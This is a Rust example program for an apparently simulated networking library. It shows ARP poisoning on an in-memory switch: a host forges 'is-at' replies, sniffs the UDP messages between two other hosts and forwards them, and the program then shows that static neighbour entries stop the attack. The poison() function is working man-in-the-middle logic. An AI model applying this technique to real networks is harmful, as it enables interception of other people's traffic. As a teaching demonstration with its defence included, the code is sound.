//! ARP poisoning: mallory tells alice and bob that each of them is at her own station, reads what they say, and passes it on.
//!
//! ```text
//! cargo run --example arp_poisoning     # three hosts on a switch, in memory
//! ```
//!
//! ARP (RFC 826) has no way to know who answers: a host believes whatever reply arrives. The cure is a neighbour that is
//! written down by hand; and, one floor up, talk that is encrypted.
#![allow(clippy::print_stdout)] // a program for the terminal

use std::time::Duration;

use sockatoo::base::LinkType;
use sockatoo::socket::*;
use sockatoo::wire::packet::{Dissection, Value, arp, ether};
use sockatoo::{Host, IfIndex, Mac, Result, World};

mod lan;

const ALICE: &str = "192.0.2.1";
const BOB: &str = "192.0.2.2";

fn main() -> Result<()> {
    let heard = in_memory()?;
    for (when, text) in ["before", "poisoned", "cured"].iter().zip(heard) {
        println!("{when}: mallory reads {text:?}");
    }
    Ok(())
}

/// What mallory reads of three messages: before, after her frames, and after the cure.
pub(crate) fn in_memory() -> Result<[Vec<String>; 3]> {
    let world = World::new(1);
    let [a, b, m] = lan::switch(&world)?;
    let alice = world.host("alice").device(a).ipv4_only().address("192.0.2.1/24")?.build()?;
    let bob = world.host("bob").device(b).ipv4_only().address("192.0.2.2/24")?.build()?;
    // A router: packets that reach her station, but are for others, she forwards. So nobody misses anything.
    let mallory = world.host("mallory").forward(true).device(m).ipv4_only();
    let mallory = mallory.address("192.0.2.3/24")?.build()?;
    let ear = mallory.socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))?;
    ear.set_promiscuous("eth0", true)?;

    let mailbox = bob.socket(AF_INET, SOCK_DGRAM, 0)?;
    mailbox.bind(("", 5000))?;
    mailbox.settimeout(Some(Duration::from_secs(5)))?;
    let pen = alice.socket(AF_INET, SOCK_DGRAM, 0)?;
    let say = |text: &str| -> Result<Vec<String>> {
        ear.settimeout(Some(Duration::from_secs(2)))?;
        pen.sendto(text.as_bytes(), 0, (BOB, 5000))?;
        assert_eq!(mailbox.recv(100, 0)?, text.as_bytes(), "bob gets it in any case");
        texts(&ear)
    };
    let before = say("one: the parrot is ill")?;
    let stations = [(ALICE, ask(&mallory, ALICE)?), (BOB, ask(&mallory, BOB)?)];
    println!("mallory has asked: {stations:?}");
    poison(&mallory, stations)?;
    let poisoned = say("two: the parrot is pining")?;

    // The cure: what is written down by hand, no frame changes.
    alice.set_neighbour(IfIndex(2), BOB.parse().expect("an address"), Some(stations[1].1))?;
    bob.set_neighbour(IfIndex(2), ALICE.parse().expect("an address"), Some(stations[0].1))?;
    poison(&mallory, stations)?;
    let cured = say("three: the parrot is no more")?;
    Ok([before, poisoned, cured])
}

/// The station of an address: "who has it?", by hand.
fn ask(host: &Host, address: &str) -> Result<Mac> {
    let socket = host.socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP))?;
    socket.settimeout(Some(Duration::from_secs(2)))?;
    // What is not set is filled in: it is a request, from us, to everybody.
    let request = ether() / arp().set("tpa", address);
    socket.sendto(&request.build(host)?.bytes, 0, ("eth0", ETH_P_ARP))?;
    loop {
        let answer = Dissection::of(LinkType::Ethernet, &socket.recv(2000, 0)?);
        let Some(arp) = answer.layer("arp") else { continue };
        let from = arp.address("spa").map(|address| address.to_string());
        if let (Some(2), true, Some(Value::Mac(mac))) = (
            arp.number("op"),
            from.as_deref() == Some(address),
            arp.seen("sha").map(|seen| seen.value.clone()),
        ) {
            return Ok(mac);
        }
    }
}

/// "Bob's address is at my station", to alice; and the other way round.
fn poison(mallory: &Host, [alice, bob]: [(&str, Mac); 2]) -> Result<()> {
    let socket = mallory.socket(AF_PACKET, SOCK_RAW, 0)?;
    for ((victim, station), other) in [(alice, bob.0), (bob, alice.0)] {
        // The sender's station is mallory's own: it is filled in. The sender's address is the lie.
        let lie = arp().op("is-at").set("spa", other).set("tpa", victim).set("tha", station);
        let frame = (ether() / lie).build(mallory)?.bytes;
        socket.sendto(&frame, 0, ("eth0", ETH_P_ARP))?;
    }
    mallory.sleep(Duration::from_millis(10)) // they arrive
}

/// What comes by, of UDP, until nothing comes for a while.
fn texts(ear: &Socket) -> Result<Vec<String>> {
    let mut texts = Vec::new();
    while let Ok((frame, from)) = ear.recvfrom(2000, 0) {
        let packet = Dissection::of(LinkType::Ethernet, &frame);
        let arrived = from.link().is_some_and(|from| from.packet_type != PACKET_OUTGOING);
        if arrived && packet.layer("udp").is_some() && packet.layer("icmp").is_none() {
            texts.push(String::from_utf8_lossy(packet.payload()).into_owned());
        }
    }
    Ok(texts)
}
